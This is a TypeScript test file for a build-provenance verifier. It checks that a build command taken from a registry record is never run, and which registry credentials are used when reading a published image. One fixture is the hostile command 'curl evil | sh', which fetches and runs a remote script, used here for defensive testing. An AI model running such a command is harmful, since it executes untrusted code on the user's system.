import { describe, expect, it } from 'vitest';
import { verifyCommit, withRecordedInputs } from '../../../src/pipeline/verify.js';
import type { RunState } from '../../../src/pipeline/report.js';
import type { Stages } from '../../../src/pipeline/stages.js';
import { recordingIo } from '../../fixtures/fake-io.js';
import { runRequest } from '../../fixtures/run-request.js';

describe('verify: the inputs a provenance records', () => {
  it('never runs a build-command read from the registry, whatever commit it names', () => {
    const io = recordingIo();
    const asked = runRequest('/tmp/ws', 'main', { 'build-command': 'make' });
    const sha = asked.context.sha;
    const recorded = { buildCommand: 'curl evil | sh', commit: sha, target: 'app' };
    const taken = withRecordedInputs(asked, recorded, 'alice/hello:latest', io);
    expect(taken.inputs.buildCommand).toBe('make');
    expect(taken.inputs.target).toBe('app');
    expect(io.texts('warning').join('\n')).toMatch(/"curl evil \| sh".*never run/);
  });
});

describe('verify: reading the published image', () => {
  it.each([
    ['another registry, with its registry-auth line', 'ghcr.example/alice/hello:1', 'bob'],
    ['the registry pushed to, with username and password', 'alice/hello:1', 'alice'],
    ['a registry without credentials, anonymously', 'quay.example/alice/hello:1', undefined],
  ])('%s', async (_name, ref, user) => {
    const asked: Array<[string, unknown]> = [];
    const refused = new Error('read refused here');
    const client = new Proxy({}, { get: () => () => Promise.reject(refused) });
    const clients = {
      get: (registry: string, credentials: unknown) => {
        asked.push([registry, credentials]);
        return client;
      },
    };
    const request = runRequest('/tmp/ws', 'main', {
      verify: ref,
      username: 'alice',
      password: 'alice-pw',
      'registry-auth': 'ghcr.example=bob:bob-token',
    });
    const state = { shared: { clients } } as unknown as RunState;
    await expect(verifyCommit(request, {} as Stages, state, recordingIo())).rejects.toBe(refused);
    const passwords: Record<string, string> = { alice: 'alice-pw', bob: 'bob-token' };
    expect(asked[0]![1]).toEqual(user ? { username: user, password: passwords[user] } : undefined);
  });
});
